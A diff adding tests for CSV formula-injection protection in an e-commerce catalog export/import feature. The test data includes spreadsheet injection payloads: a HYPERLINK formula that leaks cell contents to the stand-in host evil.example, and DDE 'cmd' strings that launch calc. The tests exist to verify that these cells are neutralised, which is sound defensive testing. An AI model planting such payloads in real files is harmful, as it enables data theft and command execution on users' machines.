@@ -3,6 +3,9 @@ import { buildSekat, type Sekat } from '../../../server/app.js';
 import { testConfig, disposeTestConfig, STORE_LABEL } from '../../../platform/testing.js';
 import type { Config } from '../../../platform/config.js';
 import { listProduct, openShop, registerUser, storeSnapshot, type TestUser } from '../testkit.js';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { neutraliseCell, readCell } from './portability.js';
 
 let config: Config;
 let sekat: Sekat;
@@ -93,5 +96,39 @@ describe(`catalog export and import (${STORE_LABEL})`, () => {
     expect((await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export`, headers: stranger.headers })).statusCode).toBe(403);
     expect((await sekat.app.inject({ url: `/api/commerce/shops/${shop.id}/export?format=xml`, headers: seller.headers })).statusCode).toBe(400);
     expect(await storeSnapshot(sekat.stores.commerce.db)).toBe(before);
+  });
+
+  it('exports formula-looking text behind a quote and imports it back exactly', async () => {
+    const formulaShop = await openShop(sekat.app, seller);
+    const copyShop = await openShop(sekat.app, seller);
+    const titles = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', "'=sudah dikutip", "'biasa"];
+    for (const [i, title] of titles.entries()) {
+      await listProduct(sekat.app, seller, formulaShop.id, [{ stock: 1, priceIdr: 10_000 + i }], { title, description: `=1+${i}` });
+    }
+    const exported = await sekat.app.inject({ url: `/api/commerce/shops/${formulaShop.id}/export?format=csv`, headers: seller.headers });
+    const rows = parse(exported.body, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.title).sort()).toEqual(["'" + titles[0], "'" + titles[1], "'" + titles[2], "'" + titles[3], "''=sudah dikutip", "'biasa"].sort());
+    // No cell a spreadsheet would run; prices stay plain numbers.
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      expect(row.description).toMatch(/^'=1\+\d$/);
+      expect(row.price_idr).toMatch(/^1000\d$/);
+    }
+    expect((await importCsv(copyShop.id, exported.body)).statusCode).toBe(201);
+    const copied = await sekat.app.inject({ url: `/api/commerce/shops/${copyShop.id}/export?format=jsonld`, headers: seller.headers });
+    const items = JSON.parse(copied.body).itemListElement.map((e: { item: { name: string; description: string } }) => e.item);
+    expect(items.map((item: { name: string }) => item.name).sort()).toEqual([...titles].sort());
+    expect(items.map((item: { description: string }) => item.description).sort()).toEqual(titles.map((_, i) => `=1+${i}`).sort());
+  });
+
+  it('neutralises every cell that starts a formula, tab and carriage return included, and reads it back', () => {
+    for (const cell of ['=1', '+1', '-1', '@1', '\t=1', '\r=1']) expect(neutraliseCell(cell)).toBe(`'${cell}`);
+    expect(neutraliseCell('Kemeja')).toBe('Kemeja');
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ' ') }), (text) => {
+        expect(neutraliseCell(text)).not.toMatch(/^[=+\-@\t\r]/);
+        expect(readCell(neutraliseCell(text))).toBe(text);
+      }),
+    );
   });
 });
